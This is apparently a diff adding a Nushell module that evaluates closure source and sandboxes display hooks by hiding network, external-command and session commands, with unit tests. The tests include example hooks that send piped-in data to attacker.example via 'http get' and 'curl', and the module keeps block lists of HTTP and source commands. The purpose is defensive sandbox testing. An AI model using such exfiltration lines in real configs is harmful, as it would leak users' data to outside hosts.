@@ -0,0 +1,412 @@
+//! Evaluating Nushell source from inside a command
+//!
+//! Display hooks and startup commands come from the config, which may be
+//! shared, so neither gets every command the session has. The interactive
+//! session keeps them all.
+//!
+//! A restricted closure, such as a display hook, only sees the built-in
+//! commands that work on data: [`HOOK_CATEGORIES`] and [`HOOK_COMMANDS`].
+//! Everything else is hidden from the working set it's parsed in, so it
+//! can't call the `http` or file system commands, `run-external`, a `def`
+//! or alias from the session, or a tool. External calls such as `^curl` go
+//! through `run-external`, so they fail to compile.
+//!
+//! Startup commands are there to set the session up, so they keep the
+//! session's commands and only lose [`HTTP_COMMANDS`] and
+//! [`SOURCE_COMMANDS`].
+
+use nu_engine::ClosureEval;
+use nu_protocol::{
+    Category, DeclId, PipelineData, ShellError, Span,
+    ast::Expr,
+    engine::{Closure, Command, CommandType, EngineState, Stack, StateWorkingSet},
+};
+
+/// The `http` commands, which `enable_http_commands = false` hides from the
+/// whole session
+pub const HTTP_COMMANDS: &[&str] = &[
+    "http",
+    "http get",
+    "http post",
+    "http put",
+    "http delete",
+    "http patch",
+    "http head",
+    "http options",
+];
+
+/// The commands that read more source, hidden in restricted mode along with
+/// the `http` commands
+pub const SOURCE_COMMANDS: &[&str] = &["source", "source-env"];
+
+/// The categories of built-in commands a restricted closure can use
+pub const HOOK_CATEGORIES: &[Category] = &[
+    Category::Conversions,
+    Category::Date,
+    Category::Filters,
+    Category::Formats,
+    Category::Math,
+    Category::Strings,
+    Category::Viewers,
+];
+
+/// The core language commands a restricted closure can use, on top of
+/// [`HOOK_CATEGORIES`]
+pub const HOOK_COMMANDS: &[&str] = &[
+    "break",
+    "collect",
+    "const",
+    "continue",
+    "describe",
+    "do",
+    "echo",
+    "error make",
+    "for",
+    "if",
+    "ignore",
+    "let",
+    "loop",
+    "match",
+    "mut",
+    "return",
+    "try",
+    "while",
+];
+
+/// Hide `names` from what's parsed in `working_set` from now on, returning
+/// the commands that were hidden so [`unhide_commands`] can bring them back
+pub fn hide_commands(working_set: &mut StateWorkingSet, names: &[&str]) -> Vec<(Vec<u8>, DeclId)> {
+    names
+        .iter()
+        .filter_map(|name| {
+            working_set
+                .hide_decl(name.as_bytes())
+                .map(|decl_id| (name.as_bytes().to_vec(), decl_id))
+        })
+        .collect()
+}
+
+/// Hide the `http` and `source` commands from what's parsed in
+/// `working_set`, for startup commands
+///
+/// The session's other commands are left alone; see the module docs.
+pub fn hide_restricted(working_set: &mut StateWorkingSet) -> Vec<(Vec<u8>, DeclId)> {
+    let mut hidden = hide_commands(working_set, HTTP_COMMANDS);
+    hidden.extend(hide_commands(working_set, SOURCE_COMMANDS));
+    hidden
+}
+
+/// Hide every command but the ones a restricted closure can use from what's
+/// parsed in `working_set`
+///
+/// Only built-in commands are kept, so a `def`, alias or tool that shares a
+/// name with one of them is hidden too.
+pub fn hide_unlisted(working_set: &mut StateWorkingSet) -> Vec<(Vec<u8>, DeclId)> {
+    let engine_state = working_set.permanent_state;
+    let unlisted: Vec<Vec<u8>> = engine_state
+        .get_decls_sorted(false)
+        .into_iter()
+        .filter(|(name, decl_id)| !hook_can_use(name, engine_state.get_decl(*decl_id)))
+        .map(|(name, _)| name)
+        .collect();
+
+    unlisted
+        .into_iter()
+        .filter_map(|name| working_set.hide_decl(&name).map(|decl_id| (name, decl_id)))
+        .collect()
+}
+
+/// Whether a restricted closure can use `decl`, visible as `name`
+fn hook_can_use(name: &[u8], decl: &dyn Command) -> bool {
+    if !matches!(
+        decl.command_type(),
+        CommandType::Builtin | CommandType::Keyword
+    ) {
+        return false;
+    }
+
+    HOOK_COMMANDS
+        .iter()
+        .any(|allowed| allowed.as_bytes() == name)
+        || HOOK_CATEGORIES.contains(&decl.signature().category)
+}
+
+/// Make commands hidden by [`hide_commands`] visible again
+pub fn unhide_commands(working_set: &mut StateWorkingSet, hidden: Vec<(Vec<u8>, DeclId)>) {
+    working_set.use_decls(hidden);
+}
+
+/// Run the closure written in `source` with `input` as `$in`
+///
+/// `source` is a closure literal such as `{|| first 20 }`; anything else is
+/// taken as the body of one, so `first 20` works too. It is parsed into a
+/// copy of the engine state, so a command can evaluate it without being able
+/// to change the REPL's own state, and it runs like any other closure. When
+/// `restricted`, it can only use the commands [`hide_unlisted`] keeps.
+pub fn eval_closure_source(
+    engine_state: &EngineState,
+    stack: &Stack,
+    source: &str,
+    input: PipelineData,
+    span: Span,
+    restricted: bool,
+) -> Result<PipelineData, ShellError> {
+    let source = source.trim();
+    let source = if source.starts_with('{') {
+        source.to_string()
+    } else {
+        format!("{{|| {source} }}")
+    };
+
+    let invalid = |msg: String| ShellError::GenericError {
+        error: "Invalid closure".into(),
+        msg,
+        span: Some(span),
+        help: Some(format!("The closure was: {source}")),
+        inner: Vec::new(),
+    };
+
+    let mut engine_state = engine_state.clone();
+    let mut working_set = StateWorkingSet::new(&engine_state);
+    if restricted {
+        // The working set is thrown away with the copy, so they stay hidden
+        hide_unlisted(&mut working_set);
+    }
+    let block = nu_parser::parse(&mut working_set, None, source.as_bytes(), false);
+
+    // An external call compiles to `run-external`, so one a restricted
+    // closure makes fails here
+    if let Some(err) = working_set.parse_errors.first() {
+        return Err(invalid(err.to_string()));
+    }
+    if let Some(err) = working_set.compile_errors.first() {
+        return Err(invalid(err.to_string()));
+    }
+
+    let block_id = match block.pipelines.as_slice() {
+        [pipeline] => match pipeline.elements.as_slice() {
+            [element] => match element.expr.expr {
+                Expr::Closure(block_id) | Expr::Block(block_id) => Some(block_id),
+                _ => None,
+            },
+            _ => None,
+        },
+        _ => None,
+    }
+    .ok_or_else(|| invalid("expected a single closure, like {|| first 20 }".into()))?;
+
+    let delta = working_set.render();
+    engine_state.merge_delta(delta)?;
+
+    let closure = Closure {
+        block_id,
+        captures: Vec::new(),
+    };
+    ClosureEval::new(&engine_state, stack, closure).run_with_input(input)
+}
+
+#[cfg(test)]
+mod tests {
+    use nu_protocol::{
+        Category, IntoPipelineData, Signature, Value,
+        engine::{Call, Command},
+    };
+
+    use super::*;
+
+    fn eval(source: &str, input: i64) -> Result<Value, ShellError> {
+        let span = Span::test_data();
+        eval_closure_source(
+            &EngineState::new(),
+            &Stack::new(),
+            source,
+            PipelineData::Value(Value::int(input, span), None),
+            span,
+            false,
+        )?
+        .into_value(span)
+    }
+
+    /// Stands in for `http get`, without the network
+    #[derive(Clone)]
+    struct FakeHttpGet;
+
+    impl Command for FakeHttpGet {
+        fn name(&self) -> &'static str {
+            "http get"
+        }
+
+        fn signature(&self) -> Signature {
+            Signature::build("http get")
+                .required("url", nu_protocol::SyntaxShape::String, "The URL")
+                .category(Category::Network)
+        }
+
+        fn description(&self) -> &'static str {
+            "Fetch a URL"
+        }
+
+        fn run(
+            &self,
+            _engine_state: &EngineState,
+            _stack: &mut Stack,
+            call: &Call,
+            _input: PipelineData,
+        ) -> Result<PipelineData, ShellError> {
+            Ok(Value::string("sent", call.head).into_pipeline_data())
+        }
+    }
+
+    /// Stands in for `run-external`, which external calls such as `^curl`
+    /// compile to
+    #[derive(Clone)]
+    struct FakeRunExternal;
+
+    impl Command for FakeRunExternal {
+        fn name(&self) -> &'static str {
+            "run-external"
+        }
+
+        fn signature(&self) -> Signature {
+            Signature::build("run-external")
+                .required("command", nu_protocol::SyntaxShape::Any, "The program")
+                .rest("args", nu_protocol::SyntaxShape::Any, "Its arguments")
+                .category(Category::System)
+        }
+
+        fn description(&self) -> &'static str {
+            "Run a program"
+        }
+
+        fn run(
+            &self,
+            _engine_state: &EngineState,
+            _stack: &mut Stack,
+            call: &Call,
+            _input: PipelineData,
+        ) -> Result<PipelineData, ShellError> {
+            Ok(Value::string("ran", call.head).into_pipeline_data())
+        }
+    }
+
+    /// The REPL's commands, the fake ones, and what `source` defines
+    fn session(source: &str) -> EngineState {
+        let mut engine_state = crate::commands::builtin::add_shell_command_context(
+            nu_cmd_lang::create_default_context(),
+        );
+        let mut working_set = StateWorkingSet::new(&engine_state);
+        working_set.add_decl(Box::new(FakeHttpGet));
+        working_set.add_decl(Box::new(FakeRunExternal));
+        nu_parser::parse(&mut working_set, None, source.as_bytes(), false);
+        assert!(working_set.parse_errors.is_empty(), "{source}");
+        let delta = working_set.render();
+        engine_state.merge_delta(delta).unwrap();
+        engine_state
+    }
+
+    /// Run `hook` on the string "secret"
+    fn run_hook(
+        engine_state: &EngineState,
+        hook: &str,
+        restricted: bool,
+    ) -> Result<Value, ShellError> {
+        let span = Span::test_data();
+        eval_closure_source(
+            engine_state,
+            &Stack::new(),
+            hook,
+            PipelineData::Value(Value::test_string("secret"), None),
+            span,
+            restricted,
+        )
+        .and_then(|output| output.into_value(span))
+    }
+
+    #[test]
+    fn test_restricted_closures_cant_use_http() {
+        let engine_state = session("");
+        let hook = "{|| http get $'https://attacker.example/?data=($in)' }";
+
+        assert_eq!(
+            run_hook(&engine_state, hook, false).unwrap(),
+            Value::test_string("sent")
+        );
+        assert!(run_hook(&engine_state, hook, true).is_err());
+        // The session itself still has the command
+        assert!(engine_state.find_decl(b"http get", &[]).is_some());
+    }
+
+    #[test]
+    fn test_restricted_closures_cant_run_externals() {
+        let engine_state = session("");
+
+        for hook in [
+            "{|| ^curl $'https://attacker.example/?data=($in)' }",
+            "{|| run-external curl $'https://attacker.example/?data=($in)' }",
+        ] {
+            assert_eq!(
+                run_hook(&engine_state, hook, false).unwrap(),
+                Value::test_string("ran"),
+                "{hook}"
+            );
+            assert!(run_hook(&engine_state, hook, true).is_err(), "{hook}");
+        }
+    }
+
+    #[test]
+    fn test_restricted_closures_cant_use_session_defs() {
+        // A wrapper defined in the session, and one that shadows a command
+        // hooks can use
+        let engine_state = session(
+            "def fetch [url: string] { http get $url }; \
+             def first [] { http get https://attacker.example/ }",
+        );
+
+        for hook in [
+            "{|| fetch $'https://attacker.example/?data=($in)' }",
+            "{|| first }",
+        ] {
+            assert_eq!(
+                run_hook(&engine_state, hook, false).unwrap(),
+                Value::test_string("sent"),
+                "{hook}"
+            );
+            assert!(run_hook(&engine_state, hook, true).is_err(), "{hook}");
+        }
+    }
+
+    #[test]
+    fn test_restricted_closures_can_shape_data() {
+        let engine_state = session("");
+        let hook = "{|| let shout = ($in | str upcase); if ($shout | str length) > 0 { $shout } }";
+
+        assert_eq!(
+            run_hook(&engine_state, hook, true).unwrap(),
+            Value::test_string("SECRET")
+        );
+    }
+
+    #[test]
+    fn test_unhidden_commands_are_visible_again() {
+        let mut engine_state = EngineState::new();
+        let mut working_set = StateWorkingSet::new(&engine_state);
+        working_set.add_decl(Box::new(FakeHttpGet));
+        let delta = working_set.render();
+        engine_state.merge_delta(delta).unwrap();
+
+        let mut working_set = StateWorkingSet::new(&engine_state);
+        let hidden = hide_restricted(&mut working_set);
+        assert_eq!(hidden.len(), 1);
+        assert!(working_set.find_decl(b"http get").is_none());
+        unhide_commands(&mut working_set, hidden);
+        assert!(working_set.find_decl(b"http get").is_some());
+    }
+
+    #[test]
+    fn test_eval_closure_source() {
+        assert_eq!(eval("{|| $in + 1 }", 1).unwrap().as_int().unwrap(), 2);
+        assert_eq!(eval("$in * 3", 2).unwrap().as_int().unwrap(), 6);
+        assert!(eval("{|| $in + ", 1).is_err());
+        assert!(eval("{|| 1 }; {|| 2 }", 1).is_err());
+    }
+}